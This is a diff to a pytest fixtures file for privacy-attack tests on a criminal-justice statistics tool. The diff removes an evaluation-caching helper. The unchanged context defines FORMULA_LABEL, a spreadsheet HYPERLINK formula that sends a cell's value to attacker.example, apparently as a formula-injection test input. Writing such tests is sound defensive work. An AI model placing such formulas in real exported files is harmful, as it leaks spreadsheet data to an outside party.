@@ -11,16 +11,11 @@
 * one year of the extract (about 80 alternatives and 33 custody cases, decision rules relaxed so
   that every table is published): tiny groups (``report``).
 
-Each fixture returns the output folder; the attacks read only the files. ``unodc-export`` gets
-the evaluation the ``report`` before it computed for the same tables and settings
-(:func:`_one_evaluation`), as ``unodc-export`` of the sample does through the session's memo
-(``tests/conftest.py``, whose few places other tests may have taken by then).
+Each fixture returns the output folder; the attacks read only the files.
 """
 
 from __future__ import annotations
 
-import contextlib
-from collections.abc import Iterator
 from pathlib import Path
 
 import numpy as np
@@ -28,7 +23,6 @@ import pandas as pd
 import pytest
 
 from tests.attack._attacks import Context
-from tests.conftest import evaluation_key
 
 RARE_LABELS = ("Smith, 12 High Street", "hamlet")
 FORMULA_LABEL = '=HYPERLINK("http://attacker.example/?x="&A1)'
@@ -114,28 +108,6 @@ def _run(args: list[str]) -> int:
     return main(args)
 
 
-@contextlib.contextmanager
-def _one_evaluation() -> Iterator[None]:
-    """While the block runs, ``run_evaluation`` computes once per tables (by content hash), settings
-    and kind of quality input (:func:`tests.conftest.evaluation_key`) and returns that same
-    (immutable) evaluation to a later command of the block; the commands look it up when they run."""
-    from altmeasures_eval import evaluation
-
-    real, kept = evaluation.run_evaluation, {}
-
-    def run_evaluation(dataset, spec=None, *, quality=None, **kwargs):
-        key = evaluation_key(evaluation, dataset, spec, quality)
-        if key not in kept:
-            kept[key] = real(dataset, spec, quality=quality, **kwargs)
-        return kept[key]
-
-    evaluation.run_evaluation = run_evaluation
-    try:
-        yield
-    finally:
-        evaluation.run_evaluation = real
-
-
 @pytest.fixture(scope="session")
 def extract_runs(extract: Path) -> dict[str, Path]:
     """validate, cohort, report and unodc-export on the extract (no rounding)."""
@@ -143,9 +115,8 @@ def extract_runs(extract: Path) -> dict[str, Path]:
     outs = {name: extract / f"out-{name}" for name in ("validate", "cohort", "report", "unodc")}
     assert _run(["validate", str(extract / "data"), "--mode", "quarantine", "--out", str(outs["validate"])]) in (0, 1)
     assert _run(["cohort", "--config", str(cfg), "--out", str(outs["cohort"])]) in WRITTEN
-    with _one_evaluation():
-        assert _run(["report", "--config", str(cfg), "--out", str(outs["report"]), "--quiet", "--no-pdf"]) in WRITTEN
-        assert _run(["unodc-export", "--config", str(cfg), "--out", str(outs["unodc"]), "--quiet"]) in WRITTEN
+    assert _run(["report", "--config", str(cfg), "--out", str(outs["report"]), "--quiet", "--no-pdf"]) in WRITTEN
+    assert _run(["unodc-export", "--config", str(cfg), "--out", str(outs["unodc"]), "--quiet"]) in WRITTEN
     return outs
 
 
